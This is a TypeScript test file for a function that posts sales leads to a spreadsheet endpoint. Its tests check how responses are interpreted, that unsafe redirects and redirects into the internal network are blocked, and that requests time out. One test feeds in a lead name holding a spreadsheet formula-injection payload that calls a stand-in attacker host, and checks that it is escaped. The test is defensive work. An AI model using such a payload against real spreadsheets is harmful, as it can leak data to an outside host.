import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished, test } from 'vitest'
import { createOutside } from '../../../platform/outside.ts'
import { postToSheet } from './sheet.server.ts'

/** The scripts of these tests run on this machine. */
const ask = createOutside(['127.0.0.1'])

const lead = { id: '0199-id', name: 'Amara Nair', email: 'amara@example.org', phone: '+919876543210' }

test.each<[string, number, string, string, string]>([
  ['text', 200, 'text/plain', 'ok', 'delivered'],
  ['nothing', 204, '', '', 'delivered'],
  ['JSON', 200, 'application/json', '{"result":"success"}', 'delivered'],
  ['JSON that is not an object', 200, 'application/json', 'null', 'delivered'],
  ['a page', 200, 'text/html; charset=utf-8', 'Sorry, unable to open the file', 'refused'],
  ['a page that is called text', 200, 'text/plain', '\n<!DOCTYPE html><p>Error', 'refused'],
  ['JSON that says error', 200, 'application/json', '{"result":"error","row":0}', 'refused'],
  ['JSON with an error', 200, 'text/plain', '{"error":"no sheet"}', 'refused'],
  ['JSON that is not ok', 200, 'application/json', '{"ok":false}', 'refused'],
  ['JSON without success', 200, 'application/json', '{"success":false}', 'refused'],
  ['400', 400, 'text/plain', '', 'refused'],
  ['404', 404, 'text/html', '<p>', 'refused'],
  ['429', 429, 'text/plain', '', 'unreached'],
  ['500', 500, 'text/plain', 'ok', 'unclear'],
  ['503', 503, 'text/html', '<p>', 'unclear'],
])('an answer of %s has its meaning', async (_, status, type, body, ending) => {
  const address = await serve((_request, response) =>
    response.writeHead(status, { 'content-type': type }).end(body),
  )

  expect(await post(address)).toMatchObject({ ending })
})

test('the redirect is followed without the lead', async () => {
  const requests: string[] = []
  const answer = await serve(async (request, response) => {
    requests.push(`${request.method} ${request.url} ${await getBody(request)}`)
    response.writeHead(request.url === '/fine' ? 200 : 500).end()
  })
  const script = (to: string) =>
    serve((_request, response) => response.writeHead(302, { location: answer + to }).end())

  expect(await post(await script('/fine'))).toEqual({ ending: 'delivered' })
  expect(await post(await script('/broken'))).toEqual({ ending: 'unclear', why: 'it answered 500' })
  expect(requests).toEqual(['GET /fine ', 'GET /broken '])
})

test.each([307, 308])('a redirect that would resend the lead (%i) is not followed', async (status) => {
  let requests = 0
  const elsewhere = await serve((_request, response) => {
    requests++
    response.end()
  })
  const script = await serve((_request, response) =>
    response.writeHead(status, { location: elsewhere }).end(),
  )

  expect(await post(script)).toEqual({ ending: 'refused', why: `it answered ${status}` })
  expect(requests).toBe(0)
})

test('a redirect into the internal network is not followed, unless the operator allows the host', async () => {
  let requests = 0
  const inside = await serve((_request, response) => {
    requests++
    response.end('ok')
  })
  const script = await serve((_request, response) => response.writeHead(302, { location: inside }).end())
  const allowing = (...hosts: string[]) =>
    postToSheet(createOutside(hosts), script, lead, AbortSignal.timeout(5_000))

  expect(await allowing(new URL(script).host)).toMatchObject({
    ending: 'unclear',
    why: expect.stringContaining('PRIVATE_HOSTS'),
  })
  expect(requests).toBe(0)
  expect(await allowing(new URL(script).host, new URL(inside).host)).toEqual({ ending: 'delivered' })
})

test('redirect loops end', async () => {
  const script = await serve((_request, response) => response.writeHead(302, { location: '/again' }).end())

  expect(await post(script)).toEqual({ ending: 'refused', why: 'it answered 302' })
})

test('the id is added to the operator’s query string, and formulas are escaped', async () => {
  const requests: string[] = []
  const script = await serve(async (request, response) => {
    requests.push(`${request.method} ${request.url} ${await getBody(request)}`)
    response.end('ok')
  })

  await postToSheet(
    ask,
    `${script}/exec?token=a%20b`,
    { ...lead, name: '=IMPORTXML("https://evil.example")' },
    new AbortController().signal,
  )

  expect(requests).toEqual([
    `POST /exec?token=a+b&id=0199-id {"name":"'=IMPORTXML(\\"https://evil.example\\")","email":"amara@example.org","phone":"+919876543210"}`,
  ])
})

test('a silent, slow or unreachable endpoint times out', async () => {
  const silent = await serve(() => {})
  const endless = await serve((_request, response) => {
    response.writeHead(200)
    const drops = setInterval(() => response.write('x'), 5)
    response.on('close', () => clearInterval(drops))
  })
  const closed = await serve(() => {}, 'close at once')

  expect(await post(silent, 50)).toEqual({ ending: 'unclear', why: 'it did not answer in time' })
  expect(await post(endless, 50)).toEqual({ ending: 'unclear', why: 'it did not answer in time' })
  expect(await post(closed)).toEqual({ ending: 'unreached', why: 'the connection failed (ECONNREFUSED)' })
})

function post(address: string, patienceMs = 5_000) {
  return postToSheet(ask, address, lead, AbortSignal.timeout(patienceMs))
}

async function serve(
  answer: (request: IncomingMessage, response: ServerResponse) => unknown,
  how?: 'close at once',
) {
  const server = createServer(answer)
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const close = () => {
    server.closeAllConnections()
    return new Promise((closed) => server.close(closed))
  }
  const { port } = server.address() as AddressInfo
  if (how) await close()
  else onTestFinished(async () => void (await close()))
  return `http://127.0.0.1:${port}`
}

async function getBody(request: IncomingMessage) {
  let text = ''
  for await (const piece of request.setEncoding('utf8')) text += piece
  return text
}
